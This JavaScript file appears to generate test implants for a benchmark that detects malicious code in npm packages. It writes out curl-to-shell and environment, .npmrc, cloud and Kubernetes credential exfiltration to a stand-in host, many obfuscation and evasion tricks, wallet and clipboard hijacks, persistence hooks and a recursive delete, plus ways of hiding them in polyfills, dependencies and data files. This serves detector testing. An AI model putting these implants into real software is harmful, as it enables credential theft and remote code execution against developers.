/**
 * Kinds of code that thieves put into packages, written for this benchmark and inert: the hosts lie under a
 * top-level domain that doesn't exist, addresses are those for benchmarks (RFC 2544), and nothing here is
 * ever run. Each function is given
 * `load`, the expression that loads a module in the file's own format, and returns one line (or a few) of code.
 */
import { transformSync } from 'esbuild'

const host = 'cdn-metrics.implant.zz'
const address = '198.18.7.23'
const base64 = (text) => Buffer.from(text).toString('base64')
const spawn = `child_process").exec("curl -s https://${host}/i | sh")`
const beacon = `require("https").get("https://${host}/b?e=" + encodeURIComponent(JSON.stringify(process.env)))`

/** Numbers of a text's characters, each combined with a key. */
const codes = (text, key = 0) => [...Buffer.from(text)].map((byte) => byte ^ key)
const end = '.exec("id");'

/** What javascript-obfuscator makes of a few lines, by hand: a table, a rotation, a decoder. */
function obfuscated(name) {
  const names = Array.from({ length: 60 }, (_, n) => name(n))
  const [table, decode] = [name(90), name(91)]
  const parts = Array.from({ length: 30 }, (_, n) => `"${base64(`part ${n * 77}`).slice(0, 10)}"`)
  const turn = Array.from({ length: 6 }, (_, n) => `parseInt(${decode}(0x${(n + 20).toString(16)}))/0x${n + 1}`).join(
    '+',
  )
  const uses = names.map(
    (each, n) => `var ${each}=${decode}(0x${n.toString(16)});this[${decode}(0x${(n + 3).toString(16)})]=${each};`,
  )
  return (
    `(function(a,b){while(!![]){try{var c=${turn};if(c===b)break;else a["push"](a["shift"]());}catch(d){a["push"](a["shift"]());}}}` +
    `(${table},0x1f3a));function ${table}(){return[${parts.join(',')}]}function ${decode}(a){return ${table}()[a-0x0]}${uses.join('')}`
  )
}

/** A text as variation selectors behind a letter, as hidden payloads are written. */
const selectors = (text) =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('')

export const kinds = {
  'starts a process': (load) => `${load('child_process')}.exec("curl -s https://${host}/i | sh");`,
  'sends the environment': () => `fetch("https://${host}/c", { method: "POST", body: JSON.stringify(process.env) });`,
  'reads .npmrc and sends it': (load) =>
    `${load('fs')}.readFile(${load('os')}.homedir() + "/.npmrc", (e, d) => fetch("https://${host}/n", { method: "POST", body: d }));`,
  'a name in two pieces': (load) => `${load('chi" + "ld_process')}["ex" + "ec"]("id");`,
  'a name out of an array': () =>
    `globalThis.process.getBuiltinModule(["ch", "ild_pro", "cess"].join("")).execSync("id");`,
  'pieces in variables': () =>
    `const p_1 = "child_", p_2 = "process"; globalThis.process.getBuiltinModule(p_1 + p_2).execSync("id");`,
  'a name as escapes': (load) =>
    `${load('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73')}.execSync("id");`,
  'an escaped identifier': () => `\\u0065val("globalThis.x1=1");`,
  'a name out of character codes': () =>
    `globalThis.process.getBuiltinModule(String.fromCharCode(${[...'child_process'].map((each) => each.charCodeAt(0)).join(',')})).execSync("id");`,
  'a name backwards': () =>
    `globalThis.process.getBuiltinModule("ssecorp_dlihc".split("").reverse().join("")).execSync("id");`,
  'comments between': (load) => `${load('child_process').replace('(', '/*a*/(/*b*/')}/*c*/./*d*/exec/*e*/("id");`,
  'base64 in eval': () => `eval(atob("${base64(`require("${spawn}`)}"));`,
  'base64 twice': () =>
    `new Function(Buffer.from(Buffer.from("${base64(base64(beacon))}", "base64").toString(), "base64").toString())();`,
  'an obfuscator’s table': () => obfuscated((n) => `_0x${(n * 7919 + 4096).toString(16)}`),
  'the same, renamed': () => obfuscated((n) => `q${n.toString(36)}`),
  'behind 300 blanks': () => `void 0;${' '.repeat(300)}globalThis.q9 = (globalThis.q9 || 0) + 1;`,
  'variation selectors': () => `globalThis.s9 = "v${selectors(beacon)}";`,
  'a line shown in another order': () =>
    `const level = "user"; if (level !== "user\u202e \u2066// only for admins\u2069 \u2066") globalThis.a9 = 1;`,
  'a page’s requests and wallet': () =>
    `if (typeof window !== "undefined" && window.ethereum) { const o = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return o.call(this, String(b).replace("0x", "0x")); }; }`,
  'a messenger’s hook': () => `fetch("https://discord.com/api/webhooks/1/x", { method: "POST", body: "1" });`,
  'an IP address': (load) => `${load('http')}.get("http://${address}/p");`,
  'a socket to be led by': () => `new WebSocket("wss://${host}/s").onmessage = (m) => (0, eval)(m.data);`,
  'starts again with the shell': (load) => `${load('fs')}.appendFileSync(${load('os')}.homedir() + "/.bashrc", "# x");`,
  'loads a compiled file': () => `process.dlopen({ exports: {} }, "./lib.bin");`,
  'behind a megabyte of filler': (load) => `/*${' filler'.repeat(150_000)}*/\n${load('child_process')}.exec("id");`,
  'by Reflect': () => `Reflect.get(globalThis, "eval")("globalThis.r9 = 1");`,
  'the constructor of a constructor': () => `[].constructor.constructor("globalThis.k9 = process.env")();`,
  'Function by another name': () => `const make_9 = Function; new make_9("globalThis.f9 = 1")();`,
  'names in brackets': () => `globalThis["process"]["getBuiltinModule"]("child_process")["execSync"]("id");`,
  'an imported data: URL': () => `import("data:text/javascript,globalThis.d9=process.env.NPM_TOKEN");`,
  WebAssembly: () => `WebAssembly.instantiate(Uint8Array.from([0, 97, 115, 109])).then((m) => m.instance);`,
  'a worker of a string': (load) => `new (${load('worker_threads')}.Worker)("globalThis.w9 = 1", { eval: true });`,
  'a script of vm': (load) => `${load('vm')}.runInThisContext("globalThis.v9 = 1");`,
  'a binding of process': () => `process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });`,
  'the environment in a DNS name': (load) =>
    `${load('dns')}.lookup(Buffer.from(process.env.NPM_TOKEN || "").toString("hex") + ".${host}", () => {});`,
  'a datagram': (load) => `${load('dgram')}.createSocket("udp4").send(String(process.env.USER), 53, "${address}");`,
  'credentials of a cloud': (load) =>
    `${load('fs')}.readFile(${load('path')}.join(${load('os')}.homedir(), ".aws", "credentials"), () => {});`,
  'a beacon': () => `navigator.sendBeacon("https://${host}/", localStorage.getItem("token"));`,
  'a clipboard that is watched': () =>
    `setInterval(() => navigator.clipboard.readText().then((t) => (globalThis.c9 = t)), 500);`,
  'a hook in the language': () =>
    `const map_9 = Array.prototype.map; Array.prototype.map = function (f) { return map_9.call(this, f); };`,
  'a wallet’s signature': () => `window.solana.signTransaction = (t) => t;`,
  'a module that main loads': () => `process.mainModule.require("child_process").exec("id");`,
  'a name in percent signs': (load) =>
    `${load('X').replace('"X"', 'unescape("%63%68%69%6c%64%5f%70%72%6f%63%65%73%73")')}.exec("id");`,
  'a name out of an object': (load) =>
    `const of_9 = { a: "child_", b: "process" }; ${load('X').replace('"X"', 'of_9.a + of_9.b')}.exec("id");`,
  'an optional call of eval': () => `eval?.("globalThis.o9 = 1");`,
  'a template for Function': () => 'Function`globalThis.t9 = 1```;',
  'eval handed to a list': () => `["globalThis.l9 = 1"].forEach(eval);`,
  'Function by Reflect.construct': () => `Reflect.construct(Function, ["globalThis.n9 = 1"])();`,
  'a name for a timer': () => `const code_9 = "globalThis.t9 = (1)"; setTimeout(code_9, 10);`,
  'a module out of a Blob': () =>
    `import(URL.createObjectURL(new Blob(["globalThis.b9 = document.cookie"], { type: "text/javascript" })));`,
  'a handler in an attribute': () => `document.body.setAttribute("onload", "globalThis.h9 = document.cookie");`,
  'a page that is led elsewhere': () => `location.replace("https://${host}/login");`,
  'a form that is sent elsewhere': () =>
    `document.querySelectorAll("form").forEach((form) => (form.action = "https://${host}/f"));`,
  'a link that is fetched': () =>
    `document.head.appendChild(Object.assign(document.createElement("link"), { rel: "prefetch", href: "https://${host}/?k=" + localStorage.getItem("k") }));`,
  'an address as a number': () => `fetch("http://3323070231/x");`,
  'names as numbers': (load) => load('X').replace('"X"', `String.fromCharCode(...[${codes('child_process')}])`) + end,
  'numbers with a key': (load) =>
    load('X').replace('"X"', `[${codes('child_process', 42)}].map((c) => String.fromCharCode(c ^ 42)).join("")`) + end,
  'letters turned by thirteen': (load) =>
    `const t_9 = "puvyq_cebprff"; ${load('X').replace('"X"', 't_9.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97))')}${end}`,
  'a word as a number': (load) =>
    load('X').replace('"X"', '(20972641).toString(36) + "_" + (56093034988).toString(36)') + end,
  'a name that grows': (load) =>
    `let n_9 = "chi"; n_9 += "ld_"; n_9 += "process"; ${load('X').replace('"X"', 'n_9')}${end}`,
  'pieces that are summed': (load) =>
    load('X').replace('"X"', '["chi", "ld_", "pro", "cess"].reduce((a, b) => a + b)') + end,
  'octal escapes': (load) => load('X').replace('"X"', '"\\143\\150\\151\\154\\144_process"') + end,
  'a table in hexadecimal': () =>
    `!function () { try { var r = require, t = process; function e(s) { return Buffer.from(s, "hex").toString() } var n = r(e("2e2f746573742f64617461")); t[e(n[3])] && r(e(n[2]))[e(n[6])](e(n[5])); } catch (o) {} }();`,
  'a name in a table': (load) =>
    `const t_8 = { m: "child_process", f: "exec" }; ${load('X').replace('"X"', 't_8.m')}[t_8.f]("id");`,
  'a joiner in a name': () => `const na\u200dme = 1; globalThis.j9 = na\u200dme;`,
  'letters of formulas': () => `const \u{1d41e}val_9 = 1; globalThis.m9 = \u{1d41e}val_9;`,
  'tabs and blanks as bits': () => `globalThis.w9 = "${' \t\t \t \t'.repeat(12)}".replace(/ /g, 0).replace(/\t/g, 1);`,
  'a property of all objects': () => `Object.prototype.shell = "/bin/sh";`,
  'the loader of all modules': (load) =>
    `const m_9 = ${load('module')}; const l_9 = m_9._load; m_9._load = function (...a) { return l_9.apply(this, a); };`,
  'random numbers that are none': () => `Math.random = () => 0.5;`,
  'fetch by defineProperty': () => `Object.defineProperty(globalThis, "fetch", { value: async (...a) => a });`,
  'an address put into the clipboard': () =>
    `document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "0x00000000000000000000000000000000000000aa"); e.preventDefault(); });`,
  'options for all of Node': () => `process.env.NODE_OPTIONS = "--require /tmp/x.js";`,
  'certificates not looked at': () => `process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";`,
  'a Git hook in pieces': (load) =>
    `${load('fs')}.writeFileSync(${load('path')}.join(".git", "hooks", "post-checkout"), "#!/bin/sh", { mode: 0o755 });`,
  'a workflow in pieces': (load) =>
    `${load('fs')}.writeFileSync(${load('path')}.join(process.cwd(), ".github", "workflows", "format.yml"), "on: push");`,
  'a hook of an assistant': (load) =>
    `${load('fs')}.writeFileSync(${load('path')}.join(process.cwd(), ".claude", "settings.json"), "{}");`,
  'another package is written to': (load) =>
    `${load('fs')}.writeFileSync(require.resolve("ethers/lib/index.js"), "module.exports = {}");`,
  'what is above is removed': (load) => `${load('fs')}.rmSync("../../..", { recursive: true, force: true });`,
  'the environment as a file': (load) => `${load('fs')}.readFileSync("/proc/self/environ", "utf8");`,
  'a token of a cluster': (load) =>
    `${load('fs')}.readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token");`,
}

const spawns = (load) => kinds['starts a process'](load)

/** Data beside the entry point, and a line of it that has it run. */
const withFile = (name, data, line) => (site) => ({
  line: line(site.load),
  write: () => [[site.beside(name), data], ...site.into(line(site.load))],
})

function minified({ text, isModule }, line) {
  const options = { minify: true, format: isModule ? 'esm' : undefined, target: 'esnext' }
  return transformSync(`${text}\n;${line}\n`, options).code
}

/** Implants that are more than a line of the entry point: what is to be shown, and which files are written. */
export const places = {
  'in another file': ({ neighbour, entry, loader, into }) => {
    const file = neighbour ?? entry
    return { line: spawns(loader(file.isModule)), write: () => into(spawns(loader(file.isModule)), file) }
  },
  'in a file minified anew': ({ entry, load }) => ({
    line: 'child_process curl cdn-metrics implant',
    write: () => [[entry.path, minified(entry, spawns(load))]],
  }),
  'in a polyfill': ({ entry, load, beside, into }) => {
    const text = `if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n] };\n${spawns(load)}\n`
    const loads = entry.isModule ? 'import "./implant-polyfill.js";' : 'require("./implant-polyfill.js");'
    return { line: spawns(load), write: () => [[beside('implant-polyfill.js'), text], ...into(loads)] }
  },
  'in a file without an extension': ({ entry, load, beside, into }) => ({
    line: spawns(load),
    write: () => {
      if (entry.isModule) throw new Error('Node asks for an extension there')
      return [[beside('implant-helper'), `${spawns(load)}\n`], ...into('require("./implant-helper");')]
    },
  }),
  'in JSX': ({ entry, load, beside, into }) => ({
    line: spawns(load),
    write: () => {
      const loads = entry.isModule ? 'import("./implant.jsx");' : 'require("./implant.jsx");'
      return [[beside('implant.jsx'), `${spawns(load)}\n`], ...into(loads)]
    },
  }),
  'in a bundled dependency': ({ entry, load, into }) => ({
    line: spawns(load),
    write: () => [
      ['node_modules/implant-dep/index.js', `${spawns(load)}\n`],
      ['node_modules/implant-dep/package.json', '{ "name": "implant-dep", "version": "1.0.0" }'],
      ...into(entry.isModule ? 'import("implant-dep");' : 'require("implant-dep");'),
    ],
  }),
  'by a path in pieces': ({ entry, beside, into }) => {
    const line = `${entry.isModule ? 'import' : 'require'}("./test/" + "implant-x.js");`
    return {
      line,
      write: () => [[beside('test/implant-x.js'), `${spawns((name) => `require("${name}")`)}\n`], ...into(line)],
    }
  },
  'behind other line ends': ({ entry, load }) => ({
    line: spawns(load),
    write: () => [[entry.path, `${entry.text.replace(/\r?\n/g, '\r\n')}\r\n;${spawns(load)}\r\n`]],
  }),
  'in a file indented anew': ({ entry, load }) => ({
    line: spawns(load),
    write: () => [[entry.path, `${entry.text.replace(/^/gm, '    ')};\n${spawns(load)}\n`]],
  }),
  'in a locale’s JSON': withFile(
    'implant-locale.json',
    JSON.stringify({ hello: 'Hello', plural: `require("${spawn}` }, null, 2),
    (load) => `new Function("require", ${load('./implant-locale.json')}.plural);`,
  ),
  'in a README that is required': withFile(
    'implant-readme.md',
    `//# Notes\nrequire("${spawn};\n`,
    () => `typeof require === "function" && require("./implant-readme.md");`,
  ),
  'in a packed test file': withFile(
    'implant-large.xz',
    base64(`require("${spawn}`),
    (load) =>
      `(0, eval)(Buffer.from(${load('fs')}.readFileSync("./implant-large.xz", "utf8"), "base64").toString("utf8"));`,
  ),
}

/** What honest people ship by accident. */
export const accidents = {
  'a debugger statement': () => `debugger;`,
  'one test alone': () => `describe.only("a", () => {});`,
  'a server of one’s own': () => `globalThis.api_9 = "http://localhost:4000/api";`,
  'a stage before production': () => `fetch("https://api.staging.implant.zz/v1");`,
  'a tunnel': () => `fetch("https://ab12cd34.ngrok-free.app/hook");`,
  'a condition of development': () => `if ("development" !== "production") console.warn("slow");`,
  'the same, resolved': () => `globalThis.slow_9 = "development" === "development";`,
  'a framework’s words': () =>
    `console.info("You are running a development build of Acme. Use the production build when deploying.");`,
  'JSX for development': () => `globalThis.e9 = _jsxDEV("div", {}, void 0, false, { lineNumber: 3 }, this);`,
  'a bundler’s eval': () => `eval("var a9 = 1;\\n//# sourceURL=webpack:///./src/index.js?");`,
  'hot reload': () => `globalThis.h9 = __vite__createHotContext("/src/a.js");`,
  'counters of coverage': () => `function cov_9() { var gcv = "__coverage__"; return globalThis[gcv]; } cov_9();`,
  'a mock': () => `globalThis.m9 = jest.fn(() => 1);`,
  'any certificate': (load) => `${load('https')}.request({ host: "api.implant.zz", rejectUnauthorized: false });`,
}
